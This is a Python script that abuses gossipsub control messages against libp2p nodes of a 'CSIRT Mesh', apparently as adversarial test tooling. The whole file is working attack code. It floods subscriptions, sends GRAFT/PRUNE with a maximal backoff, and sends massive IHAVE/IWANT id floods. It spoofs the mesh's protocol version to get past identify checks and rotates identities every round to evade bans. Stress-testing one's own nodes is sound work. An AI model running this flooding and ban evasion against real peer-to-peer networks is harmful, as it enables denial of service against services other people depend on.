#!/usr/bin/env python3
"""Abuse gossipsub's control messages against CSIRT Mesh nodes.

A client nobody on the project wrote: py-libp2p (pinned by
scripts/hostile-venv) dials each target over TCP + noise + yamux, opens a
gossipsub 1.1 stream and writes raw RPC frames (py-libp2p's own protobuf
definitions):

- SUBSCRIBE to thousands of topics (and to the mesh's);
- GRAFT, then PRUNE with the largest backoff the field holds;
- IWANT with hundreds of thousands of message ids, in frames under 1 MiB;
- IHAVE floods of random ids.

Each round takes a fresh identity (a ban of the last one does not stop
it) and goes through every target; a target that closes the connection
(the mesh closes strangers after a short window and bans misbehaving
peers) is left for the next round, until the time is up. After each round a summary line starting with {"abuse" is printed:
the last one is the total. Counts are of frames written on our side (the
node may have refused them: see the node's log at debug level).

Usage: gossip_abuse.py --topic TOPIC --seconds N MULTIADDR...
"""

import argparse
import json
import os
import sys
import time

import libp2p.identity.identify.identify as identify
import multiaddr
import trio
from libp2p import new_host
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils.varint import encode_varint_prefixed

TOPICS = 5000
IWANT_FRAMES = 40
IWANT_PER_FRAME = 5000
IHAVE_FRAMES = 20
IHAVE_PER_FRAME = 5000
U64_MAX = 2**64 - 1

# Pass for one of the mesh's nodes: nodes close peers of other networks as
# soon as identify tells them apart.
identify.PROTOCOL_VERSION = "/csirtmesh/1.0.0"


def summary(counts):
    print(json.dumps({"abuse": counts}, sort_keys=True), flush=True)


async def abuse_once(host, info, topic, counts):
    await host.connect(info)
    counts["connections"] += 1
    stream = await host.new_stream(info.peer_id, [PROTOCOL_ID_V11])

    async def send(rpc, what, n):
        data = rpc.SerializeToString()
        await stream.write(encode_varint_prefixed(data))
        counts["frames_written"] += 1
        counts["bytes"] += len(data)
        counts[what] += n

    rpc = rpc_pb2.RPC()
    for i in range(TOPICS):
        rpc.subscriptions.add(subscribe=True, topicid=f"junk-{i}")
    rpc.subscriptions.add(subscribe=True, topicid=topic)
    await send(rpc, "subscriptions", TOPICS + 1)

    rpc = rpc_pb2.RPC()
    rpc.control.graft.add(topicID=topic)
    await send(rpc, "grafts", 1)
    rpc = rpc_pb2.RPC()
    prune = rpc.control.prune.add(topicID=topic)
    prune.backoff = U64_MAX
    await send(rpc, "prunes", 1)

    # IHAVE and IWANT floods, interleaved, until the node closes us.
    for i in range(max(IWANT_FRAMES, IHAVE_FRAMES)):
        if i < IHAVE_FRAMES:
            rpc = rpc_pb2.RPC()
            have = rpc.control.ihave.add(topicID=topic)
            have.messageIDs.extend(os.urandom(32) for _ in range(IHAVE_PER_FRAME))
            await send(rpc, "ihave_ids", IHAVE_PER_FRAME)
        if i < IWANT_FRAMES:
            rpc = rpc_pb2.RPC()
            want = rpc.control.iwant.add()
            want.messageIDs.extend(os.urandom(32) for _ in range(IWANT_PER_FRAME))
            await send(rpc, "iwant_ids", IWANT_PER_FRAME)
    await stream.close()


async def swallow(stream):
    """Our side of gossipsub: the node's own stream to us is read and
    dropped. (Refusing it would make the node mark us as not speaking
    gossipsub and refuse ours as well.)"""
    try:
        while await stream.read(65536):
            pass
    except Exception:
        pass


async def round_with_a_fresh_identity(infos, topic, counts):
    """One identity per round: a ban of the last one does not stop us."""
    host = new_host()
    host.set_stream_handler(PROTOCOL_ID_V11, swallow)
    async with host.run(listen_addrs=[multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
        await trio.sleep(0.3)  # let the host's services start
        for info in infos:
            try:
                with trio.move_on_after(20):
                    await abuse_once(host, info, topic, counts)
            except Exception as e:  # closed, refused, banned: next target
                counts["failures"] += 1
                counts["last_failure"] = f"{type(e).__name__}: {e}"[:200]
            try:
                await host.disconnect(info.peer_id)
            except Exception:
                pass


async def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--topic", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("targets", nargs="+")
    a = p.parse_args()
    infos = [info_from_p2p_addr(multiaddr.Multiaddr(t)) for t in a.targets]
    counts = {
        k: 0
        for k in [
            "rounds",
            "connections",
            "failures",
            "frames_written",
            "bytes",
            "subscriptions",
            "grafts",
            "prunes",
            "iwant_ids",
            "ihave_ids",
        ]
    }
    deadline = time.monotonic() + a.seconds
    while time.monotonic() < deadline:
        counts["rounds"] += 1
        await round_with_a_fresh_identity(infos, a.topic, counts)
        summary(counts)
        await trio.sleep(0.5)
    summary(counts)


if __name__ == "__main__":
    try:
        trio.run(main)
    except KeyboardInterrupt:
        sys.exit(130)
